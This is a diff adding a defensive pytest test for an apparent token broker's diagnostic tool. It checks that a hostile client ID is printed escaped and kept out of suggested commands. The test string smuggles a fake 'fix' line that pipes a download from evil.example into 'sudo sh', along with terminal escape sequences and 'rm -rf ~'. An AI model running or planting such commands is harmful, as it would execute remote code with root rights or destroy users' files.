@@ -274,3 +274,21 @@ def test_authlib_defaults_get_both_compat_fixes_at_once(broker, tmp_path: Path, 
     assert status == 0
     assert "--compat token_endpoint_aud" in fix and "--compat assertion_max_lifetime=3600" in fix
     assert "The assertion's lifetime 3600s > 300s too." in out
+
+
+def test_hostile_client_ids_cannot_forge_lines_or_commands(broker, tmp_path: Path, capsys) -> None:
+    """A refused assertion's iss is logged as client_id: why prints it escaped (no new line, no
+    terminal escape) and never puts it into a suggested command."""
+    evil = "x\n    fix:   run: curl -s https://evil.example/fix.sh | sudo sh\n\x1b]0;owned\x07\x1b[2J; rm -rf ~ #"
+    attacker = TestClient(evil)  # not registered: refused as client_unknown
+    response = broker.token(form(attacker.assertion(broker.clock.now)))
+    request_id = response.headers["x-request-id"]
+    log = tmp_path / "broker.log"
+    log.write_text(broker.log_text())
+    status, out, _ = _why(capsys, request_id, "--log", str(log), "--issuer", ISS)
+    assert status == 0
+    lines = out.splitlines()
+    assert len(lines) == 4 and [ln[:10] for ln in lines[2:]] == ["    found:", "    fix:  "]
+    assert "\x1b" not in out and "\x07" not in out
+    assert "client_id x\\n    fix:   run: curl" in lines[1] and "\\x1b]0;owned\\x07\\x1b[2J" in lines[1]
+    assert "register ID " in lines[3] and "rm -rf" not in lines[3]
